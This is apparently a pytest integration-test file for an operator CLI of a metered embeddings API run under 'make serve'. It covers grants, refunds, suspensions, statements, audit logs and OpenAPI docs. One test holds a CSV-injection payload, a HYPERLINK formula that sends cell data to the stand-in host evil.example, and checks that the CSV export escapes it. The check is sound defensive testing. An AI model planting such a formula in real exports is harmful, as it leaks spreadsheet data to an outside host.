"""The operator CLI against ``make serve``: every command, unsigned, through real HTTP, with
the Redis, emulator and local DynamoDB that make serve starts by itself."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from local.redis_servers import free_port
from tests.serving import Served, serve

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    """make serve as a newcomer runs it (its own Redis, emulator and local DynamoDB), with
    three plans (``tiny``'s quota is 2 tokens a month)."""
    with serve({"ATTO_PLANS": "free=5/1h,50/30d;pro=40/1h,2000/30d;tiny=40/1h,2/30d",
                "ATTO_DEFAULT_PLAN": "free"}) as server:
        yield server


def cli(served: Served, *args: str, json_out: bool = True) -> tuple[int, Any, str]:
    """Run ``python -m atto_admin --url <serve> [--json] ARGS``; (status, stdout, stderr)."""
    argv = [sys.executable, "-m", "atto_admin", "--url", served.url,
            *(["--json"] if json_out else []), *args]
    env = {**os.environ, "PYTHONPATH": str(ROOT / "tools")}
    env.pop("AWS_ACCESS_KEY_ID", None)  # nothing is signed locally: no credentials needed
    out = subprocess.run(argv, capture_output=True, text=True, timeout=60, env=env, cwd=ROOT)
    body: Any = out.stdout
    if json_out and out.returncode == 0:
        body = json.loads(out.stdout)
    return out.returncode, body, out.stderr


def embed(served: Served, user: str, request_id: str | None = None,
          plan: str | None = None) -> httpx.Response:
    headers = {"X-Atto-User": user, **({"Idempotency-Key": request_id} if request_id else {}),
               **({"X-Atto-Plan": plan} if plan else {})}
    return httpx.post(served.url + "/v1/embeddings", json={"input": ["x"]}, headers=headers,
                      timeout=30)


def test_every_command_against_make_serve(served: Served) -> None:
    """show, plan set/clear, grant add (twice) and void, refund (twice), suspend, unsuspend
    and audit all work unsigned against make serve, audited as the operator `local`."""
    user = "cli-" + uuid.uuid4().hex[:8]
    code, picture, _ = cli(served, "show", user)
    assert code == 0 and picture["plan"]["name"] == "free" and picture["events"] == []

    assert cli(served, "plan", "set", user, "pro", "--reason", "upgrade")[0] == 0
    assert cli(served, "show", user)[1]["plan"] == {
        "name": "pro", "source": "override",
        "windows": [{"limit": 40, "window_s": 3600}, {"limit": 2000, "window_s": 2592000}]}
    assert cli(served, "plan", "clear", user, "--reason", "trial over")[1]["cleared"] is True

    args = ("grant", "add", user, "--tokens", "500", "--kind", "paid", "--reference", "inv_1",
            "--expires-at", "2099-01-31T00:00:00Z", "--reason", "bought")
    first, second = cli(served, *args)[1], cli(served, *args)[1]
    assert (first["created"], second["created"]) == (True, False)
    assert second["grant"]["tokens"] == 500
    assert cli(served, "show", user)[1]["credit"] == 500
    assert cli(served, "grant", "void", user, "inv_1", "--reason", "mistake")[1]["voided"]
    assert cli(served, "show", user)[1]["credit"] == 0

    assert embed(served, user, "key-1").status_code == 200
    refunded = cli(served, "refund", user, "key-1", "--reason", "bad answer")[1]
    assert refunded["created"] is True and refunded["refund"]["tokens"] == 1
    assert cli(served, "refund", user, "key-1", "--reason", "again")[1]["created"] is False
    assert cli(served, "show", user)[1]["windows"][0]["used"] == 0

    suspended = cli(served, "suspend", user, "--reason", "abuse",
                    "--until", "2099-01-01T00:00:00Z")[1]
    assert suspended["suspension"]["active"] is True
    assert cli(served, "unsuspend", user, "--reason", "appeal")[1]["lifted"] is True

    entries = cli(served, "log", "--user", user)[1]["entries"]
    assert [e["action"] for e in entries] == [
        "suspension.lift", "suspension.set", "refund", "grant.void", "grant.create",
        "plan.clear", "plan.set"]
    assert {e["by"] for e in entries} == {"local"}


def test_statement_and_grant_history_against_make_serve(served: Served) -> None:
    """statement shows every record with the day's totals (lines, CSV, --month), and
    grant history the grant's creation, its draw and the return a support refund made."""
    from datetime import UTC, datetime

    user = "cli-" + uuid.uuid4().hex[:8]
    assert cli(served, "grant", "add", user, "--tokens", "5", "--kind", "paid",
               "--reference", "inv_h", "--reason", "bought")[0] == 0
    for key in ("h-1", "h-2", "h-3"):  # tiny: 2 tokens a month, the third from the grant
        assert embed(served, user, key, plan="tiny").status_code == 200
    assert cli(served, "refund", user, "h-3", "--reason", "bad answer")[0] == 0
    code, statement, _ = cli(served, "statement", user)
    assert code == 0 and [r["request_id"] for r in statement["records"]] == ["h-3", "h-2", "h-1"]
    assert statement["records"][0]["state"] == "support-refunded"
    assert statement["records"][0]["credit"] == [{"reference": "inv_h", "tokens": 1}]
    day = statement["days"][0]  # today's: the statement's span ends now
    assert len(statement["days"]) == 31  # every day of the 30 days before now
    assert (day["charges"], day["kept"], day["refunded"], day["credit"]) == (3, 2, 1, 1)
    assert statement["summary"] == {"charges": 3, "reserved": 3, "refunds": 1, "refunded": 1,
                                    "kept": 2, "credit": 1}
    month = datetime.now(UTC).strftime("%Y-%m")
    assert len(cli(served, "statement", user, "--month", month)[1]["records"]) == 3
    code, out, _ = cli(served, "statement", user, "--csv", json_out=False)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert code == 0 and rows[0][:7] == ["request_id", "at", "route", "plan", "state", "cost",
                                         "kept"]
    assert rows[1][0] == "h-3" and rows[1][4:9] == ["support-refunded", "1", "0", "1", "inv_h=1"]
    code, out, _ = cli(served, "statement", user, json_out=False)
    assert code == 0 and out.startswith(f"statement of {user} from ")
    summary = out.splitlines()[1:4]  # the support refund is not counted as kept
    assert [line.split()[:2] for line in summary] == [["charged", "3"], ["refunded", "1"],
                                                      ["kept", "2"]]
    code, history, _ = cli(served, "grant", "history", user, "inv_h")
    assert code == 0 and [(e["kind"], e["tokens"], e["request_id"]) for e in
                          history["events"]] == [("created", 5, None), ("draw", 1, "h-3"),
                                                 ("return", 1, "h-3")]
    assert cli(served, "statement", user, "--month", "2026-13")[0] == 2


def test_statement_csv_writes_an_idempotency_key_formula_as_text(served: Served) -> None:
    """A charge whose Idempotency-Key reads as a spreadsheet formula is written to
    ``statement --csv`` with a leading ``'`` (OWASP's escape) and reads back with the csv
    module as that text."""
    user = "csv-" + uuid.uuid4().hex[:8]
    key = '=HYPERLINK("https://evil.example/?d="&A1,"refund")'
    assert embed(served, user, key).status_code == 200
    code, out, _ = cli(served, "statement", user, "--csv", json_out=False)
    assert code == 0
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert [row[0] for row in rows] == ["request_id", "'" + key]
    assert not out.splitlines()[1].startswith(("=", '"='))


def test_readable_output_and_errors(served: Served) -> None:
    """Without --json the CLI prints lines for a person; an API error exits 1 with its code."""
    user = "cli-" + uuid.uuid4().hex[:8]
    code, out, _ = cli(served, "grant", "add", user, "--tokens", "5", "--kind", "promo",
                       "--reference", "camp-1", "--reason", "welcome", json_out=False)
    assert code == 0 and out.startswith(f"grant camp-1 for {user} created")
    code, out, _ = cli(served, "show", user, json_out=False)
    assert code == 0
    assert f"user      {user}" in out and "credit    5 tokens in live grants" in out
    code, _, err = cli(served, "grant", "void", user, "nope", "--reason", "x")
    assert code == 1 and "HTTP 404 not_found" in err
    code, _, err = cli(served, "plan", "set", user, "gold", "--reason", "x")
    assert code == 1 and "HTTP 400 invalid_request" in err and "unknown plan" in err


def test_the_plan_header_chooses_the_plan_locally(served: Served) -> None:
    """In make serve, X-Atto-Plan stands in for the JWT plan claim."""
    user = "hdr-" + uuid.uuid4().hex[:8]
    report = httpx.get(served.url + "/v1/usage", timeout=10,
                       headers={"X-Atto-User": user, "X-Atto-Plan": "pro"}).json()
    assert report["plan"] == "pro" and report["windows"][0]["limit"] == 40


def test_show_draws_the_plan_the_last_request_was_charged_under(served: Served) -> None:
    """A user whose plan comes from the claim (X-Atto-Plan locally) shows plan pro (claim)
    with pro's windows and "charged under pro" with its time; a user never charged shows
    the default and "unknown"."""
    user = "last-" + uuid.uuid4().hex[:8]
    code, out, _ = cli(served, "show", user, json_out=False)
    assert code == 0 and "charged   unknown" in out and "plan      free (default)" in out
    assert embed(served, user, plan="pro").status_code == 200
    code, out, _ = cli(served, "show", user, json_out=False)
    assert code == 0 and "plan      pro (claim)" in out
    assert "charged   under pro at 20" in out
    picture = cli(served, "show", user)[1]
    assert picture["last_charged"]["plan"] == "pro"
    assert picture["last_charged"]["at"].endswith("Z")
    assert [w["limit"] for w in picture["windows"]] == [40, 2000]


def test_cli_changes_reach_the_users_next_request(served: Served) -> None:
    """Against make serve, a grant made with the CLI covers the user's next request past the
    quota (and shows in the picture with its draw), a CLI suspension refuses the next
    request with 403, and unsuspending serves the one after."""
    user = "draw-" + uuid.uuid4().hex[:8]
    assert [embed(served, user, plan="tiny").status_code for _ in range(3)] == [200, 200, 429]
    assert cli(served, "grant", "add", user, "--tokens", "3", "--kind", "promo",
               "--reference", "camp-9", "--reason", "welcome")[0] == 0
    assert embed(served, user, plan="tiny").status_code == 200
    picture = cli(served, "show", user)[1]
    assert picture["grants"][0]["consumed"] == 1 and picture["credit"] == 2
    assert picture["events"][0]["draws"] == [{"reference": "camp-9", "tokens": 1}]
    assert cli(served, "suspend", user, "--reason", "abuse")[0] == 0
    refused = embed(served, user, plan="tiny")
    assert refused.status_code == 403 and refused.json()["error"]["code"] == \
        "account_suspended"
    assert cli(served, "unsuspend", user, "--reason", "appeal")[0] == 0
    assert embed(served, user, plan="tiny").status_code == 200
    assert cli(served, "show", user)[1]["credit"] == 1


def test_unknown_routes_and_methods_get_404_and_405_with_allow(served: Served) -> None:
    """make serve answers an unknown path 404 and a known path's wrong method 405 with an
    Allow header, both in the error shape with an X-Request-Id."""
    missing = httpx.get(served.url + "/v1/nothing", timeout=10)
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"
    wrong = httpx.get(served.url + "/v1/structured", timeout=10)
    assert wrong.status_code == 405
    assert wrong.headers["allow"] == "POST"
    assert wrong.json()["error"]["code"] == "method_not_allowed"
    assert "POST" in wrong.json()["error"]["message"]
    grants = httpx.get(served.url + "/admin/v1/users/alice/grants", timeout=10)
    assert grants.status_code == 405 and grants.headers["allow"] == "POST"
    for answer in (missing, wrong, grants):
        assert answer.json()["error"]["request_id"] == answer.headers["x-request-id"]


def bare_cli(*args: str, port: int, stdout: Any = subprocess.PIPE) -> subprocess.Popen[str]:
    """``python -m atto_admin ARGS`` with no URL, stack or AWS settings, ``PORT`` set."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("AWS_") and k not in ("ATTO_ADMIN_URL", "ATTO_STACK")}
    env.update({"PYTHONPATH": str(ROOT / "tools"), "PORT": str(port),
                "AWS_EC2_METADATA_DISABLED": "true", "AWS_CONFIG_FILE": os.devnull,
                "AWS_SHARED_CREDENTIALS_FILE": os.devnull})
    return subprocess.Popen([sys.executable, "-m", "atto_admin", *args], stdout=stdout,
                            stderr=subprocess.PIPE, text=True, env=env, cwd=ROOT)


def test_global_flags_go_before_or_after_the_command(served: Served) -> None:
    """--json and --url are accepted after the command (and its own options) too."""
    user = "flags-" + uuid.uuid4().hex[:8]
    env = {**os.environ, "PYTHONPATH": str(ROOT / "tools")}
    for argv in (["--json", "show", user, "--url", served.url],
                 ["show", user, "--json", "--url", served.url],
                 ["plan", "set", user, "pro", "--reason", "r", "--url", served.url, "--json"]):
        out = subprocess.run([sys.executable, "-m", "atto_admin", *argv], capture_output=True,
                             text=True, timeout=60, env=env, cwd=ROOT)
        assert out.returncode == 0, out.stderr
        assert json.loads(out.stdout)["user_id"] == user


def test_with_no_flags_the_cli_finds_make_serve(served: Served) -> None:
    """With no --url, ATTO_ADMIN_URL or stack, the CLI uses the make serve on PORT and says
    so on stderr."""
    user = "bare-" + uuid.uuid4().hex[:8]
    proc = bare_cli("show", user, port=int(served.url.rsplit(":", 1)[1]))
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert f"user      {user}" in out
    assert f"using make serve at {served.url}" in err


def test_with_nothing_to_reach_the_error_names_the_flags() -> None:
    """With no make serve running and no AWS settings, the error names the URL and PORT it
    tried and says to start make serve or pass --url or --stack, in one line, without a
    traceback."""
    port = free_port()
    proc = bare_cli("show", "alice", port=port)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 1
    assert f"http://127.0.0.1:{port} (PORT={port})" in err
    assert "--url" in err and "--stack" in err and "make serve" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_validation_details_are_printed(served: Served) -> None:
    """A 422 from the API prints each validation detail, field by field, and the request id."""
    code, _, err = cli(served, "grant", "add", "val-user", "--tokens", "0", "--kind", "paid",
                       "--reference", "inv_x", "--reason", "r", json_out=False)
    assert code == 1
    assert "HTTP 422 invalid_request" in err
    assert "tokens: Input should be greater than 0" in err
    assert "request id: " in err


def test_a_closed_pipe_is_no_traceback(served: Served) -> None:
    """Output piped into a reader that has gone (`| head`) ends quietly: exit 0, no
    BrokenPipeError traceback."""
    read, write = os.pipe()
    os.close(read)  # the reader is gone before anything is written
    with os.fdopen(write, "w") as stdout:
        proc = bare_cli("--url", served.url, "show", "pipe-user", port=free_port(),
                        stdout=stdout)
        _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert "Traceback" not in err and "BrokenPipe" not in err


def test_an_ended_suspension_reads_as_ended(served: Served) -> None:
    """show says a timed suspension that has passed is over, not 'suspended ended until'."""
    user = "ended-" + uuid.uuid4().hex[:8]
    # whole seconds, and room for two CLI runs on a busy machine before the end
    ends = int(time.time()) + 8
    until = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ends))
    assert cli(served, "suspend", user, "--reason", "cool-off", "--until", until)[0] == 0
    code, out, _ = cli(served, "show", user, json_out=False)
    assert code == 0 and "suspended YES, until" in out
    time.sleep(max(0.0, ends + 0.5 - time.time()))
    code, out, _ = cli(served, "show", user, json_out=False)
    assert code == 0
    line = next(ln for ln in out.splitlines() if ln.startswith("suspended"))
    assert line.startswith("suspended no (") and "ended at" in line and "until" not in line


def test_local_mode_prints_each_event_it_would_publish(served: Served) -> None:
    """Under make serve a charge crossing 80% of a window prints one marked line with the
    event's detail-type and detail, as a deployed stack would publish it."""
    user = "evt-" + uuid.uuid4().hex[:8]
    assert [embed(served, user, plan="free").status_code for _ in range(4)] == [200] * 4
    deadline = time.monotonic() + 10
    lines: list[str] = []
    while not lines and time.monotonic() < deadline:
        lines = [ln for ln in served.log.read_text().splitlines()
                 if ln.startswith("[event, local: not published] Atto Usage Threshold ")
                 and f'"user":"{user}"' in ln]
        time.sleep(0.1)
    assert len(lines) == 1, served.log.read_text()[-2000:]
    detail = json.loads(lines[0].split(" Atto Usage Threshold ", 1)[1])
    assert detail == {"user": user, "plan": "free", "window_s": 3600, "threshold": 80,
                      "used": 4, "limit": 5}


def test_the_local_dynamodb_keeps_its_access_log_out_of_the_terminal(served: Served) -> None:
    """After operator changes (DynamoDB writes, some refused by their conditions) make
    serve's output holds no access-log line of the local DynamoDB."""
    user = "quiet-" + uuid.uuid4().hex[:8]
    args = ("grant", "add", user, "--tokens", "5", "--kind", "promo", "--reference", "q-1",
            "--reason", "r")
    assert cli(served, *args)[0] == 0 and cli(served, *args)[0] == 0
    access = [ln for ln in served.log.read_text().splitlines() if '"POST / HTTP/1.1"' in ln]
    assert access == []


def test_make_serve_serves_one_openapi_document_and_its_docs_page(served: Served) -> None:
    """GET /openapi.json is a valid OpenAPI document with every route of template.yaml
    (each with its method only) and GET /docs is the Swagger UI page that loads it."""
    from openapi_spec_validator import validate

    from local.template import functions

    document = httpx.get(served.url + "/openapi.json", timeout=30).json()
    validate(document)
    routes = {(fn.method.lower(), fn.path) for fn in functions()}
    served_routes = {(m, p) for p, item in document["paths"].items() for m in item}
    assert served_routes == routes
    page = httpx.get(served.url + "/docs", timeout=10)
    assert page.status_code == 200 and "text/html" in page.headers["content-type"]
    assert "/openapi.json" in page.text
    assert "Swagger UI, loaded from a CDN" in served.log.read_text()


def test_try_it_out_sends_what_the_openapi_document_declares(served: Served) -> None:
    """/openapi.json declares X-Atto-User (and X-Atto-Plan, optional) as the security of
    every /v1/ operation and Idempotency-Key on each metered one: requests built from those
    declarations alone, as Swagger UI's "Try it out" builds them, are served (401 without),
    under the plan chosen, and a repeated key is a replay."""
    document = httpx.get(served.url + "/openapi.json", timeout=30).json()
    schemes = document["components"]["securitySchemes"]
    for path, item in document["paths"].items():
        for operation in item.values():
            assert ({"AttoUser": []} in operation["security"]) if path.startswith("/v1/") \
                else "security" not in operation

    def authorized(operation: dict[str, Any], values: dict[str, str]) -> dict[str, str]:
        """The headers Swagger UI sends: each authorized scheme the operation lists."""
        return {schemes[name]["name"]: values[name] for requirement in operation["security"]
                for name in requirement if name in values}

    user = "try-" + uuid.uuid4().hex[:8]
    usage = document["paths"]["/v1/usage"]["get"]
    assert httpx.get(served.url + "/v1/usage", timeout=30).status_code == 401
    answer = httpx.get(served.url + "/v1/usage", timeout=30,
                       headers=authorized(usage, {"AttoUser": user, "AttoPlan": "pro"}))
    assert answer.status_code == 200 and answer.json()["plan"] == "pro"
    keyed = {f"{method.upper()} {path}" for path, item in document["paths"].items()
             for method, operation in item.items()
             if any(p["name"] == "Idempotency-Key" and p["in"] == "header"
                    for p in operation.get("parameters", []))}
    assert keyed == {route for route, cost in answer.json()["prices"].items() if cost != 0}
    embeddings = document["paths"]["/v1/embeddings"]["post"]
    headers = {**authorized(embeddings, {"AttoUser": user}), "Idempotency-Key": "try-1"}
    first, again = (httpx.post(served.url + "/v1/embeddings", json={"input": ["x"]},
                               headers=headers, timeout=30) for _ in range(2))
    assert (first.status_code, again.status_code) == (200, 200)
    assert again.headers["idempotent-replayed"] == "true"


def test_audit_lines_show_details_as_pairs_with_rfc3339_instants(served: Served) -> None:
    """The readable audit prints each entry's details as key=value pairs, a grant's expiry as
    RFC 3339, never a Python dict or epoch milliseconds."""
    user = "aud-" + uuid.uuid4().hex[:8]
    assert cli(served, "grant", "add", user, "--tokens", "5", "--kind", "promo",
               "--reference", "camp-a", "--expires-at", "2099-01-31T00:00:00Z",
               "--reason", "welcome")[0] == 0
    code, out, _ = cli(served, "log", "--user", user, json_out=False)
    assert code == 0
    (line,) = out.strip().splitlines()
    assert line.endswith("expires_at=2099-01-31T00:00:00.000Z kind=promo reference=camp-a "
                         "tokens=5"), line
    assert "{" not in line and "_ms" not in line
